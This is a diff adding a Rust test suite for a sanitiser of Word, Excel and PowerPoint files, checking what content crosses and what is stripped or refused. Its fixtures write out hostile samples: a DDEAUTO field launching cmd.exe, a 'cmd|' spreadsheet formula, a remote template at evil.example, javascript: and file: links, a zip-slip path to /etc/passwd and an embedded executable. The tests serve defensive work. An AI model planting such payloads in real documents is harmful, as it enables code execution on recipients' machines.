@@ -1,0 +1,464 @@
+//! Documents of Office through both rooms: what crosses, what does not, and what is told of it.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "a test fails where it fails"
+)]
+
+mod office_kit;
+mod rooms;
+
+use form::Reason;
+use form::report::OutputType;
+use office_kit::{A, MC, P, PRESENTATION, Package, R, Rebuilt, W};
+use rooms::{Sanitised, refusal, sanitise};
+
+fn rebuilt(package: &Package, name: &str) -> (Sanitised, Rebuilt) {
+    let done = sanitise(&package.zip(), name).unwrap_or_else(|refused| panic!("{:?}", refused.refusal));
+    let parts = Rebuilt::open(&done.bytes);
+    (done, parts)
+}
+
+/// What is left of the body of a document, from its first paragraph on.
+fn body(content: &str) -> (Sanitised, String) {
+    let (done, parts) = rebuilt(&Package::document(content), "a.docx");
+    let text = parts.text("document.xml");
+    let start = text.find("<w:body").expect("a body");
+    (done, text[start..].to_owned())
+}
+
+fn sheet(content: &str) -> (Sanitised, String) {
+    let (done, parts) = rebuilt(&Package::workbook(content), "a.xlsx");
+    let text = parts.text("worksheets/");
+    let start = text.find("<sheetData").expect("cells");
+    (done, text[start..].to_owned())
+}
+
+#[test]
+fn words_and_cells_cross() {
+    let (done, text) = body("<w:p><w:r><w:t>申請書 &amp; 添付</w:t></w:r></w:p>");
+    assert_eq!(done.report.output, OutputType::Docx);
+    assert!(text.contains("申請書 &amp; 添付"), "{text}");
+    let (done, cells) = sheet(r#"<sheetData><row r="1"><c r="A1"><f>SUM(B1:C1)</f><v>3</v></c></row></sheetData>"#);
+    assert_eq!(done.report.output, OutputType::Xlsx);
+    assert!(cells.contains("SUM(B1:C1)") && cells.contains(">3<"), "{cells}");
+}
+
+#[test]
+fn a_macro_document_leaves_without_its_macros_and_says_so() {
+    let package = Package::document("<w:p/>")
+        .relation(
+            "word/document.xml",
+            "m",
+            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+            "vbaProject.bin",
+        )
+        .bytes("word/vbaProject.bin", b"Attribut\0e VB_Name");
+    let (done, parts) = rebuilt(&package, "a.docm");
+    assert!(done.has(Reason::Macros));
+    assert_eq!(done.report.output, OutputType::Docx);
+    assert!(!parts.has("vbaProject") && !parts.has("VB_Name"), "{:?}", parts.names());
+}
+
+#[test]
+fn document_types_and_entities_refuse_the_document() {
+    let main = |xml: &str| Package::document("").part("word/document.xml", xml).zip();
+    let bomb = format!(
+        r#"<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"#
+    );
+    assert_eq!(refusal(&main(&bomb), "a.docx"), Reason::Malformed);
+    let named = format!("<w:document {W}><w:body><w:p><w:r><w:t>&nbsp;</w:t></w:r></w:p></w:body></w:document>");
+    assert_eq!(refusal(&main(&named), "a.docx"), Reason::Malformed);
+    assert_eq!(refusal(&main(&format!("<w:document {W}><w:body><w:p>")), "a.docx"), Reason::Malformed);
+    assert_eq!(refusal(&main(&format!("<w:document {W}/><w:document {W}/>")), "a.docx"), Reason::Malformed);
+}
+
+#[test]
+fn names_that_are_there_twice_or_lead_out_refuse_the_package() {
+    let twice = Package::document("<w:p/>").part("WORD/Document.XML", "<a/>").zip();
+    assert_eq!(refusal(&twice, "a.docx"), Reason::DuplicateMember);
+    let absolute = Package::document("<w:p/>").part("/etc/passwd", "x").zip();
+    assert_eq!(refusal(&absolute, "a.docx"), Reason::ZipSlip);
+}
+
+#[test]
+fn a_part_whose_checksum_is_wrong_is_not_read() {
+    let mut zip = Package::document("<w:p><w:r><w:t>checksum</w:t></w:r></w:p>").zip();
+    let at = zip.windows(17).rposition(|window| window == b"word/document.xml").unwrap();
+    // The checksum stands 30 bytes before the name in the central directory, and 16 before it in the local header.
+    let local =
+        zip.windows(17).enumerate().filter(|(_, w)| *w == b"word/document.xml").map(|(at, _)| at).nth_back(1).unwrap();
+    zip[at - 30] ^= 1;
+    zip[local - 16] ^= 1;
+    assert_eq!(refusal(&zip, "a.docx"), Reason::Malformed);
+}
+
+#[test]
+fn nesting_is_refused_at_its_limit_and_not_by_the_stack() {
+    let nested = |depth: usize| {
+        let (open, close) = ("<w:sdt><w:sdtContent>".repeat(depth), "</w:sdtContent></w:sdt>".repeat(depth));
+        Package::document(&format!("{open}<w:p/>{close}")).zip()
+    };
+    assert!(sanitise(&nested(100), "a.docx").is_ok());
+    assert_eq!(refusal(&nested(15_000), "a.docx"), Reason::LimitMarkup);
+    let unknown =
+        Package::document(&format!("{}{}", "<w:unknown>".repeat(15_000), "</w:unknown>".repeat(15_000))).zip();
+    assert_eq!(refusal(&unknown, "a.docx"), Reason::LimitMarkup);
+}
+
+#[test]
+fn what_stands_in_the_wrong_order_is_put_right() {
+    let (done, text) = body(
+        "<w:p><w:r><w:t>一</w:t><w:rPr><w:b/></w:rPr></w:r><w:pPr><w:ind w:left=\"1\"/><w:keepNext/></w:pPr><w:r><w:t>二</w:t></w:r></w:p>",
+    );
+    assert!(done.has(Reason::StructureRepaired));
+    let order: Vec<usize> = ["<w:pPr", "<w:keepNext", "<w:ind", "<w:b/>", "一", "二"]
+        .iter()
+        .map(|word| text.find(word).expect(word))
+        .collect();
+    assert!(order.is_sorted(), "{text}");
+}
+
+#[test]
+fn a_cell_of_a_table_without_a_paragraph_gets_one() {
+    let (_, text) =
+        body("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr/></w:tc></w:tr></w:tbl><w:p/>");
+    assert!(text.contains("<w:tc>") && text.contains("<w:p/></w:tc>"), "{text}");
+}
+
+#[test]
+fn elements_of_no_vocabulary_are_left_out_with_all_in_them() {
+    let (done, text) = body("<w:p><w:evil><w:r><w:t>in</w:t></w:r></w:evil><w:r><w:t>out</w:t></w:r></w:p>");
+    assert!(!text.contains("evil") && !text.contains(">in<") && text.contains(">out<"), "{text}");
+    assert_eq!(done.place(Reason::UnknownContent).as_deref(), Some("w:evil"));
+}
+
+#[test]
+fn smart_tags_leave_their_words() {
+    let (_, text) =
+        body(r#"<w:p><w:smartTag w:element="place"><w:smartTagPr/><w:r><w:t>京都</w:t></w:r></w:smartTag></w:p>"#);
+    assert!(text.contains("京都") && !text.contains("smartTag"), "{text}");
+}
+
+#[test]
+fn of_alternatives_the_first_known_one_crosses() {
+    let wps = r#"xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:no="urn:no""#;
+    let alternatives = |requires: &str, choice: &str| {
+        body(&format!(
+            r#"<w:p {wps}><w:r><mc:AlternateContent><mc:Choice Requires="{requires}">{choice}</mc:Choice><mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"#
+        ))
+        .1
+    };
+    let known = alternatives("wps", "<w:t>new</w:t>");
+    assert!(known.contains(">new<") && !known.contains(">old<"), "{known}");
+    let unknown = alternatives("wps no", "<w:t>new</w:t>");
+    assert!(unknown.contains(">old<") && !unknown.contains(">new<"), "{unknown}");
+    let empty = alternatives("wps", "<w:control/>");
+    assert!(empty.contains(">old<"), "a choice of which nothing crosses is none: {empty}");
+}
+
+#[test]
+fn a_refused_formula_leaves_its_value_and_takes_those_that_share_it() {
+    let (done, cells) = sheet(
+        r#"<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:B1" si="0">WEBSERVICE("http://x")</f><v>7</v></c><c r="B1"><f t="shared" si="0"/><v>8</v></c><c r="C1"><f>A1+B1</f><v>15</v></c></row></sheetData>"#,
+    );
+    assert!(!cells.contains("WEBSERVICE") && !cells.contains("shared"), "{cells}");
+    assert!(cells.contains(">7<") && cells.contains(">8<") && cells.contains("A1+B1"), "{cells}");
+    assert_eq!(done.place(Reason::UnsafeFormula).as_deref(), Some("表!A1"));
+}
+
+#[test]
+fn a_rule_whose_formula_is_refused_goes_whole() {
+    let (done, cells) = sheet(
+        r#"<sheetData/><dataValidations count="2"><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A1</formula1></dataValidation><dataValidation type="list" sqref="B1"><formula1>"a,b"</formula1></dataValidation></dataValidations>"#,
+    );
+    assert!(!cells.contains("calc") && !cells.contains(r#"sqref="A1""#), "{cells}");
+    assert!(cells.contains(r#"sqref="B1""#), "{cells}");
+    assert!(done.has(Reason::UnsafeFormula));
+}
+
+#[test]
+fn a_field_that_starts_a_program_leaves_the_text_that_it_shows() {
+    let field = |instruction: &str| {
+        format!(
+            r#"<w:p><w:r><w:t>前</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
+        )
+    };
+    let split = "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText></w:r>";
+    let (done, text) = body(&field(split));
+    assert!(!text.contains("fldChar") && !text.contains("instrText") && !text.contains("calc"), "{text}");
+    assert!(text.contains("前") && text.contains("結果"), "{text}");
+    assert!(done.has(Reason::DdeLink));
+    let (done, text) = body(&field("<w:r><w:instrText> PAGE </w:instrText></w:r>"));
+    assert_eq!(text.matches("fldChar ").count(), 3, "{text}");
+    assert!(!done.has(Reason::UnsafeField));
+    let nested = field(&format!(
+        "<w:r><w:instrText> INCLUDETEXT </w:instrText></w:r>{}",
+        field("<w:r><w:instrText> PAGE </w:instrText></w:r>").replace("<w:p>", "").replace("</w:p>", "")
+    ));
+    let (done, text) = body(&nested);
+    assert!(!text.contains("fldChar"), "a field in a refused one's instruction goes with it: {text}");
+    assert_eq!(text.matches("結果").count(), 1, "{text}");
+    assert!(done.has(Reason::UnsafeField));
+}
+
+#[test]
+fn marks_of_fields_that_never_began_are_left_out() {
+    let (_, text) = body(
+        r#"<w:p><w:r><w:fldChar w:fldCharType="end"/><w:instrText>PAGE</w:instrText><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>"#,
+    );
+    assert!(!text.contains("instrText") && text.contains(">x<"), "{text}");
+}
+
+#[test]
+fn links_lead_to_the_web_and_to_mail_only() {
+    let link = |target: &str| {
+        let package =
+            Package::document(r#"<w:p><w:hyperlink r:id="h"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>"#)
+                .external("word/document.xml", "h", "hyperlink", target);
+        rebuilt(&package, "a.docx")
+    };
+    let (done, parts) = link("https://www.example.jp/?a=1&b=2");
+    assert!(parts.text("document.xml").contains("<w:hyperlink") && !done.has(Reason::UnsafeLink));
+    for target in
+        ["javascript:alert(1)", "file:///C:/a.exe", "\\\\server\\share\\a.lnk", "ms-word:ofe|u|http://x/a.dotm"]
+    {
+        let (done, parts) = link(target);
+        let text = parts.text("document.xml");
+        assert!(!text.contains("<w:hyperlink") && text.contains("こちら"), "{target}: {text}");
+        assert!(done.has(Reason::UnsafeLink), "{target}");
+    }
+}
+
+#[test]
+fn a_template_elsewhere_is_told_with_a_target_that_is_no_link() {
+    let settings =
+        format!(r#"<w:settings {W} {R}><w:attachedTemplate r:id="t"/><w:defaultTabStop w:val="720"/></w:settings>"#);
+    let package = Package::document("<w:p/>")
+        .relation("word/document.xml", "s", "settings", "settings.xml")
+        .part("word/settings.xml", &settings)
+        .external("word/settings.xml", "t", "attachedTemplate", "http://evil.example/a.dotm");
+    let (done, parts) = rebuilt(&package, "a.docx");
+    assert_eq!(done.place(Reason::ExternalLink).as_deref(), Some("hxxp[:]//evil[.]example/a.dotm"));
+    assert!(!parts.has("evil") && !parts.has("attachedTemplate"));
+    assert!(parts.text("settings.xml").contains("defaultTabStop"));
+}
+
+#[test]
+fn a_password_against_editing_goes_and_the_protection_stays() {
+    let (done, cells) = sheet(
+        r#"<sheetData/><sheetProtection algorithmName="SHA-512" hashValue="AAAA" saltValue="BBBB" spinCount="100000" sheet="1" objects="1"/>"#,
+    );
+    assert!(cells.contains("<sheetProtection") && cells.contains(r#"sheet="1""#), "{cells}");
+    assert!(!cells.contains("AAAA") && !cells.contains("hashValue"), "{cells}");
+    assert!(done.has(Reason::ProtectionPassword));
+}
+
+#[test]
+fn a_macro_sheet_goes_and_names_keep_their_sheets() {
+    let book = format!(
+        r#"<workbook {X} {R}><bookViews><workbookView activeTab="2"/></bookViews><sheets><sheet name="M" sheetId="1" r:id="m"/><sheet name="B" sheetId="2" r:id="b"/><sheet name="C" sheetId="3" state="hidden" r:id="c"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" localSheetId="0">M!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="2">'C'!$A$1:$B$2</definedName></definedNames></workbook>"#,
+        X = office_kit::X
+    );
+    let sheet = format!("<worksheet {}><sheetData/></worksheet>", office_kit::X);
+    let package = Package::workbook("")
+        .part("xl/workbook.xml", &book)
+        .relation(
+            "xl/workbook.xml",
+            "m",
+            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
+            "macrosheets/sheet1.xml",
+        )
+        .relation("xl/workbook.xml", "b", "worksheet", "worksheets/sheet1.xml")
+        .relation("xl/workbook.xml", "c", "worksheet", "worksheets/sheet2.xml")
+        .part("xl/macrosheets/sheet1.xml", "<a/>")
+        .part("xl/worksheets/sheet1.xml", &sheet)
+        .part("xl/worksheets/sheet2.xml", &sheet);
+    let (done, parts) = rebuilt(&package, "a.xlsm");
+    let book = parts.text("workbook.xml");
+    assert!(!book.contains(r#"name="M""#) && !book.contains("Auto_Open") && !book.contains("activeTab"), "{book}");
+    assert!(book.contains(r#"localSheetId="1""#) && book.contains("Print_Area"), "{book}");
+    assert!(done.has(Reason::Macros));
+    assert_eq!(done.place(Reason::HiddenSheet).as_deref(), Some("C"));
+}
+
+#[test]
+fn of_an_embedded_object_the_preview_stays() {
+    let vml = r#"xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office""#;
+    let object = format!(
+        r##"<w:p><w:r><w:object {vml} w:dxaOrig="1" w:dyaOrig="1"><v:shape id="s" style="width:100pt;height:50pt"><v:imagedata r:id="i" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="_1" r:id="o"/></w:object></w:r></w:p>"##
+    );
+    let package = Package::document(&object)
+        .relation("word/document.xml", "o", "oleObject", "embeddings/請求書.exe.bin")
+        .relation("word/document.xml", "i", "image", "media/image1.png")
+        .bytes("word/embeddings/請求書.exe.bin", b"MZ-embedded")
+        .bytes("word/media/image1.png", &png());
+    let (done, parts) = rebuilt(&package, "a.docx");
+    let text = parts.text("document.xml");
+    assert!(text.contains("<v:imagedata") && !text.contains("OLEObject") && !text.contains("<w:object"), "{text}");
+    assert!(!parts.has("MZ-embedded"));
+    assert_eq!(done.place(Reason::EmbeddedObject).as_deref(), Some("請求書.exe.bin"));
+}
+
+#[test]
+fn of_an_embedded_object_on_a_slide_the_picture_takes_its_place() {
+    let picture = r#"<p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="i"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>"#;
+    let graphic = format!(
+        r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v"><p:oleObj name="x" r:id="o" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj name="x" r:id="o" progId="Package"><p:embed/>{picture}</p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>"#
+    );
+    let (done, slide) = slide(&graphic, |package| {
+        package
+            .relation("ppt/slides/slide1.xml", "o", "oleObject", "../embeddings/o.bin")
+            .relation("ppt/slides/slide1.xml", "i", "image", "../media/image1.png")
+            .bytes("ppt/embeddings/o.bin", b"MZ")
+            .bytes("ppt/media/image1.png", &png())
+    });
+    assert!(slide.contains("<p:pic>") && !slide.contains("graphicFrame") && !slide.contains("oleObj"), "{slide}");
+    assert!(done.has(Reason::EmbeddedObject));
+}
+
+#[test]
+fn a_click_that_runs_something_is_no_click_any_more() {
+    let shape = |click: &str| {
+        format!(
+            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="s">{click}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"#
+        )
+    };
+    let (_, next) = slide(&shape(r#"<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>"#), |p| p);
+    assert!(next.contains("hlinkClick"), "{next}");
+    for (action, reason) in [("macro?name=x", Reason::Macros), ("program", Reason::LaunchAction)] {
+        let (done, slide) = slide(&shape(&format!(r#"<a:hlinkClick r:id="" action="ppaction://{action}"/>"#)), |p| p);
+        assert!(!slide.contains("hlinkClick") && slide.contains("<p:sp>"), "{slide}");
+        assert!(done.has(reason), "{action}");
+    }
+}
+
+#[test]
+fn pictures_are_made_anew_and_broken_ones_are_told() {
+    let inline = |id: &str| {
+        format!(
+            r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{id}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#
+        )
+    };
+    let mut surplus = png();
+    surplus.extend_from_slice(b"PK\x03\x04 hidden");
+    let package = Package::document(&format!("{}{}{}", inline("a"), inline("b"), inline("none")))
+        .relation("word/document.xml", "a", "image", "media/a.png")
+        .relation("word/document.xml", "b", "image", "media/b.wmf")
+        .bytes("word/media/a.png", &surplus)
+        .bytes("word/media/b.wmf", b"no picture at all");
+    let (done, parts) = rebuilt(&package, "a.docx");
+    assert_eq!(done.place(Reason::PictureUndecodable).as_deref(), Some("b.wmf"));
+    assert!(!parts.has("hidden"));
+    let media: Vec<&Vec<u8>> =
+        parts.0.iter().filter(|(name, _)| name.contains("media/")).map(|(_, bytes)| bytes).collect();
+    assert_eq!(media.len(), 2, "{:?}", parts.names());
+    assert!(media.iter().all(|bytes| bytes.starts_with(b"\x89PNG")));
+    assert_eq!(parts.text("document.xml").matches("r:embed").count(), 2);
+}
+
+#[test]
+fn a_chart_that_is_not_there_leaves_no_empty_frame() {
+    let (_, text) = body(
+        r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="gone"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#,
+    );
+    assert!(!text.contains("drawing"), "{text}");
+}
+
+#[test]
+fn a_strict_document_becomes_a_transitional_one() {
+    let strict = r#"<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p><w:sectPr><w:pgSz w:w="595.3pt" w:h="29.7cm"/></w:sectPr></w:body></w:document>"#;
+    let mut package = Package::default().relation(
+        "",
+        "rId1",
+        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
+        "word/document.xml",
+    );
+    package = package.part("word/document.xml", strict);
+    let (_, parts) = rebuilt(&package, "a.docx");
+    let text = parts.text("document.xml");
+    assert!(text.contains("schemas.openxmlformats.org/wordprocessingml/2006/main") && !text.contains("purl.oclc.org"));
+    assert!(text.contains("<w:pgSz"), "{text}");
+}
+
+#[test]
+fn a_part_in_utf_16_is_read() {
+    let text = format!(
+        "\u{FEFF}<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document {W}><w:body><w:p><w:r><w:t>広い</w:t></w:r></w:p></w:body></w:document>"
+    );
+    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let (_, parts) = rebuilt(&Package::document("").bytes("word/document.xml", &wide), "a.docx");
+    assert!(parts.text("document.xml").contains("広い"));
+}
+
+#[test]
+fn a_broken_part_that_is_not_needed_is_left_out() {
+    let package = Package::document("<w:p/>")
+        .relation("word/document.xml", "t", "theme", "theme/theme1.xml")
+        .part("word/theme/theme1.xml", "<broken");
+    let (done, parts) = rebuilt(&package, "a.docx");
+    assert!(!parts.has("theme1"));
+    assert_eq!(done.place(Reason::UnknownContent).as_deref(), Some("theme1.xml"));
+    let needed = Package::workbook("").part("xl/worksheets/sheet1.xml", "<broken").zip();
+    assert_eq!(refusal(&needed, "a.xlsx"), Reason::Malformed);
+}
+
+#[test]
+fn two_main_parts_are_two_documents() {
+    let two = Package::document("<w:p/>")
+        .relation("", "rId2", "officeDocument", "word/other.xml")
+        .part("word/other.xml", "<a/>");
+    assert_eq!(refusal(&two.zip(), "a.docx"), Reason::AmbiguousStructure);
+}
+
+#[test]
+fn a_large_sheet_streams_and_keeps_every_cell() {
+    let mut rows = String::new();
+    for row in 1..=20_000 {
+        rows.push_str(&format!(
+            r#"<row r="{row}"><c r="A{row}"><v>{row}</v></c><c r="B{row}" t="str"><f>A{row}</f><v>b</v></c></row>"#
+        ));
+    }
+    let late = r#"<sheetFormatPr defaultRowHeight="15"/>"#;
+    let (done, cells) =
+        sheet(&format!("<sheetData>{rows}</sheetData>{late}<mergeCells><mergeCell ref=\"A1:B1\"/></mergeCells>"));
+    assert_eq!(cells.matches("<c ").count(), 40_000);
+    assert!(cells.contains("<v>20000</v>") && cells.contains("A1:B1"), "the end of the sheet");
+    assert!(done.has(Reason::StructureRepaired), "what comes too late for its place is told");
+}
+
+#[test]
+fn attributes_that_are_there_twice_refuse_the_part() {
+    let twice = format!(
+        r#"<w:document {W} xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:pPr><w:ind w:left="1" q:left="2"/></w:pPr></w:p></w:body></w:document>"#
+    );
+    assert_eq!(refusal(&Package::document("").part("word/document.xml", &twice).zip(), "a.docx"), Reason::Malformed);
+}
+
+/// A presentation of one slide with this in its tree of shapes.
+fn slide(shapes: &str, more: impl Fn(Package) -> Package) -> (Sanitised, String) {
+    let names = format!("{P} {A} {R} {MC}");
+    let tree = |shapes: &str| {
+        format!(
+            r#"<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{shapes}</p:spTree></p:cSld>"#
+        )
+    };
+    let package = Package::with_main("ppt/presentation.xml", PRESENTATION)
+        .part(
+            "ppt/presentation.xml",
+            &format!(r#"<p:presentation {names}><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst><p:notesSz cx="1" cy="1"/></p:presentation>"#),
+        )
+        .relation("ppt/presentation.xml", "s", "slide", "slides/slide1.xml")
+        .part("ppt/slides/slide1.xml", &format!("<p:sld {names}>{}</p:sld>", tree(shapes)));
+    let (done, parts) = rebuilt(&more(package), "a.pptx");
+    let text = parts.text("slides/slide");
+    (done, text)
+}
+
+/// A picture that is partly clear.
+fn png() -> Vec<u8> {
+    rooms::fixture("half.png")
+}
